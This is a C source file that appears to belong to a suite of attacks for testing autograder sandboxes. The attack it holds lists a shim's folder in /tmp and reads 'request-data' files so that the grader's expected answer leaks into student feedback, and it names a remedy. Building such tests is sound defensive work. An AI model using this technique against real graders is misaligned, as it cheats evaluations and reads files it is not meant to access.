// SPDX-License-Identifier: MIT
/*
 * Goal:  the right answer.
 * Means: the request file, found by listing. The shim's folder has a fixed name; that the names
 *        below are random matters to those who may not list them. No environment is needed.
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <glob.h>
#include <unistd.h>

static enum claim run(const struct brief *b)
{
	glob_t found;
	bool got = false;

	submit("0");
	attempting(b);
	if (glob("/tmp/shimmy/*/request-data-*", GLOB_NOSORT, NULL, &found))
		return denied("/tmp/shimmy");
	for (size_t i = 0; i < found.gl_pathc; i++) {
		char text[65536];
		int fd = open(found.gl_pathv[i], O_RDONLY | O_CLOEXEC);
		ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text));

		if (n > 0)
			loot(text, (size_t)n);
		got |= n > 0;
		close(fd);
	}
	globfree(&found);
	return got ? CLAIM_DONE : denied("open");
}

const struct attack attack = {
	.effect = "the right answer leaves in the student's feedback",
	.means = "the request file, found by listing the shim's folder in /tmp",
	.oracle = "secret:request",
	.grader = GRADER_FILE,
	.attack_id = "T1083, T1005, CWE-377",
	.remedy = "a /tmp of its own; no answer where a student's uid reads",
	.run = run,
};
